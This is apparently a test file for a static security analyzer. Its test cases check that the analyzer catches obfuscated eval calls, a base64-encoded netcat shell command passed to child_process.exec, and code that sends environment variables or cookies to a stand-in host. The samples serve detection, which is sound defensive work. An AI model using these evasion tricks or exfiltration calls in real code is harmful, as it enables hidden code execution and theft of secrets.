import { analyze } from '../analyze.ts';
import { findingsOf } from '../testing/analyze-text.ts';

async function rulesOf(files: Record<string, string>): Promise<string[]> {
  const { findings } = await analyze({ files: new Map(Object.entries(files)) });
  return findings.flatMap(({ ruleId, severity, file }) =>
    severity === 'critical' || severity === 'high' ? [`${ruleId} ${file}`] : [],
  );
}

describe('ways round a name', () => {
  it.each([
    ['one of two texts', 'const p = flag ? "ev" : "is"; window[p + "al"](x);'],
    ['one of two texts in a template', 'const p = flag ? "ev" : "is"; window[`${p}al`](x);'],
    ['an object that says how it is written', 'const o = { toString: () => "eval" }; window[`${o}`](x);'],
    [
      'an object that says what it is as a text',
      'const o = { [Symbol.toPrimitive]: (as: string) => (as === "string" ? "eval" : 1) }; window[`${o}`](x);',
    ],
    [
      'a getter that reads another member of its object',
      'const o = { get a() { return this.b + "al"; }, get b() { return "ev"; } }; window[o.a](x);',
    ],
    ['parts joined from behind', 'window[["al", "ev"].reduceRight((a, b) => a + b)](x);'],
    ['what a symbol says of itself', 'window[Symbol("eval").description!](x);'],
    ['the hash of an address', 'window[new URL("x:#eval").hash.slice(1)](x);'],
    ['letters that are written and read again', 'window[decodeURIComponent(escape(atob("ZXZhbA==")))](x);'],
    ['a tag that decodes', 'const d = ([s]) => s.split("").reverse().join(""); window[d`lave`](x);'],
    [
      'what a constructor was given',
      'class D { constructor(k) { this.k = k; } get() { return "ev" + this.k; } } window[new D("al").get()](x);',
    ],
    ['an ambient name', 'declare const globalThis: any; globalThis["ev" + "al"](x);'],
  ])('%s leads to eval', async (_way, text) => {
    const found = await findingsOf(text, { file: 'a.ts' });
    expect(found.some((one) => /^eval-code (?:critical|high)$/.test(one))).toBe(true);
  });

  it('the default of a name taken out of the environment may be what runs', async () => {
    const text =
      'const { C = Buffer.from("bmMgLWUgL2Jpbi9zaA==", "base64").toString() } = process.env; require("child_process").exec(C);';
    expect(await findingsOf(text)).toContain('process-start critical');
  });

  it('a counter of a loop is no text that is put together', async () => {
    expect(await findingsOf('for (let i = 0; i < list.length; i += 1) use(list[i]);')).toEqual([]);
  });
});

describe('ways from file to file', () => {
  it('calling what a file gives as a whole calls its function', async () => {
    const files = {
      'index.js': 'const send = require("./send"); send(process.env);',
      'send.js':
        'module.exports = (data) => fetch("https://collect.example/x", { method: "POST", body: JSON.stringify(data) });',
    };
    expect(await rulesOf(files)).toContain('secret-to-network send.js');
  });

  it('a file that gives on everything another gives is passed through', async () => {
    const files = {
      'index.js': 'const { send } = require("./lib"); send(process.env);',
      'lib/index.js': 'module.exports = { ...require("./net"), version: "1" };',
      'lib/net.js':
        'exports.send = (data) => fetch("https://collect.example/x", { method: "POST", body: JSON.stringify(data) });',
    };
    expect(await rulesOf(files)).toContain('secret-to-network lib/net.js');
  });

  it('a secret that waits in a function reaches whoever calls it', async () => {
    const files = {
      'index.js':
        'import { Kept } from "./kept.js"; new Kept().add(() => document.cookie).run((text) => fetch("https://collect.example/x", { method: "POST", body: text }));',
      'kept.js':
        'export class Kept { all = []; add(fn) { this.all.push(fn); return this; } run(done) { done(this.all.map((one) => one()).join()); } }',
    };
    expect(await rulesOf(files)).toContain('secret-to-network index.js');
  });
});
